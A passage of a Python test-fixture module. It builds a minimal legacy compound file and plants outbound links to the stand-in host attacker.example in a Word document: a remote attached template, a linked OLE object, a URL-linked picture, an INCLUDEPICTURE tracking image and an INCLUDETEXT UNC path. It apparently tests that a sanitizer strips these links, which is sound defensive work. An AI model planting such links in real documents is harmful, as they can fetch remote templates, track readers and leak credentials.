    return make_compound_file({"WordDocument": b"\xec\xa5\xc1\x00" + b"\x00" * 600, "1Table": b"\x00" * 100})


def make_compound_file(streams: Mapping[str, bytes]) -> bytes:
    """A minimal valid version-3 compound file (MS-CFB) holding up to three streams.

    Streams are padded to the mini-stream cutoff so all live in ordinary sectors: one FAT sector,
    one directory sector, then the stream data.
    """
    assert 1 <= len(streams) <= 3
    names = sorted(streams, key=lambda name: (len(name), name.upper()))  # MS-CFB directory order
    payloads = [streams[name].ljust(_MINI_CUTOFF, b"\x00") for name in names]
    fat = [_FAT_SECTOR, _END]  # sector 0: the FAT itself; sector 1: the directory
    starts = []
    for payload in payloads:
        sectors = -(-len(payload) // _SECTOR)
        starts.append(len(fat))
        fat.extend(range(len(fat) + 1, len(fat) + sectors))
        fat.append(_END)
    assert len(fat) <= _SECTOR // 4
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        bytes.fromhex("D0CF11E0A1B11AE1"), b"\x00" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\x00" * 6,
        0, 1, 1, 0, _MINI_CUTOFF, _END, 0, _END, 0,
    ) + struct.pack("<109I", 0, *[_FREE] * 108)
    # a balanced red-black tree: the middle name is the black root, its neighbours red children
    middle = len(names) // 2
    entries = [_directory_entry("Root Entry", 5, child=1 + middle, start=_END, size=0)]
    for position, (name, payload, start) in enumerate(zip(names, payloads, starts)):
        is_root = position == middle
        entries.append(
            _directory_entry(
                name,
                2,
                left=1 + middle - 1 if is_root and middle > 0 else _NO_STREAM,
                right=1 + middle + 1 if is_root and middle + 1 < len(names) else _NO_STREAM,
                color=1 if is_root else 0,
                start=start,
                size=len(payload),
            )
        )
    unused = struct.pack("<64sHBBIII16sIQQIQ", b"", 0, 0, 0, _NO_STREAM, _NO_STREAM, _NO_STREAM, b"", 0, 0, 0, 0, 0)
    directory = b"".join(entries) + unused * (_SECTOR // 128 - len(entries))
    fat_sector = struct.pack(f"<{_SECTOR // 4}I", *fat, *[_FREE] * (_SECTOR // 4 - len(fat)))
    data = b"".join(payload.ljust(-(-len(payload) // _SECTOR) * _SECTOR, b"\x00") for payload in payloads)
    return header + fat_sector + directory + data


def _directory_entry(
    name: str, kind: int, *, left: int = _NO_STREAM, right: int = _NO_STREAM, child: int = _NO_STREAM,
    color: int = 1, start: int, size: int,
) -> bytes:
    encoded = name.encode("utf-16-le") + b"\x00\x00"
    return struct.pack(
        "<64sHBBIII16sIQQIQ",
        encoded, len(encoded), kind, color, left, right, child, b"\x00" * 16, 0, 0, 0, start, size,
    )


# --- links to the outside world (what the annotated copy must not carry back) -----------------

REMOTE = "attacker.example"
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def add_external_links(document: docx.document.Document) -> None:
    """Every way a .docx reaches outside when opened or clicked: a remote attached template, a linked
    OLE object, a picture linked by URL, a hyperlink, and INCLUDEPICTURE / INCLUDETEXT fields (the
    first split over two runs, as Word writes long field codes)."""
    part = document.part
    settings = part._settings_part
    template_id = settings.relate_to(f"http://{REMOTE}/normal.dotm", ATTACHED_TEMPLATE, is_external=True)
    settings.element.insert(0, parse_xml(f'<w:attachedTemplate {_NAMESPACES} r:id="{template_id}"/>'))
    ole_id = part.relate_to(f"file://{REMOTE}/share/data.xlsx", RT.OLE_OBJECT, is_external=True)
    image_id = part.relate_to(f"http://{REMOTE}/pixel.png", RT.IMAGE, is_external=True)
    link_id = part.relate_to(f"http://{REMOTE}/page", RT.HYPERLINK, is_external=True)
    paragraph = document.add_paragraph("详见附表：")
    for xml in (
        f"<w:r {_NAMESPACES}><w:object>{_PICTURE_SHAPETYPE}"
        '<v:shape id="_x0000_i1030" type="#_x0000_t75" style="width:48pt;height:36pt" o:ole=""/>'
        f'<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1030" r:id="{ole_id}" '
        'UpdateMode="Always"><o:LinkType>EnhancedMetafile</o:LinkType></o:OLEObject></w:object></w:r>',
        f"<w:r {_NAMESPACES}><w:drawing><wp:inline><wp:extent cx=\"609600\" cy=\"457200\"/>"
        f"<wp:docPr id=\"90\" name=\"Picture 90\"/>{_graphic_xml(image_id, 90).replace('r:embed', 'r:link')}"
        "</wp:inline></w:drawing></w:r>",
        f'<w:hyperlink {_NAMESPACES} r:id="{link_id}"><w:r><w:t>网上原文</w:t></w:r></w:hyperlink>',
        f'<w:r {_NAMESPACES}><w:fldChar w:fldCharType="begin"/></w:r>',
        f'<w:r {_NAMESPACES}><w:instrText xml:space="preserve"> INCLUDEPIC</w:instrText></w:r>',
        f'<w:r {_NAMESPACES}><w:instrText xml:space="preserve">TURE "http://{REMOTE}/track.png" \\d </w:instrText></w:r>',
        f'<w:r {_NAMESPACES}><w:fldChar w:fldCharType="separate"/></w:r>',
        f"<w:r {_NAMESPACES}><w:t>现场图</w:t></w:r>",
        f'<w:r {_NAMESPACES}><w:fldChar w:fldCharType="end"/></w:r>',
        f'<w:fldSimple {_NAMESPACES} w:instr=" INCLUDETEXT &quot;\\\\{REMOTE}\\share\\x.docx&quot; ">'
        "<w:r><w:t>引用段落</w:t></w:r></w:fldSimple>",
    ):
        paragraph._p.append(parse_xml(xml))
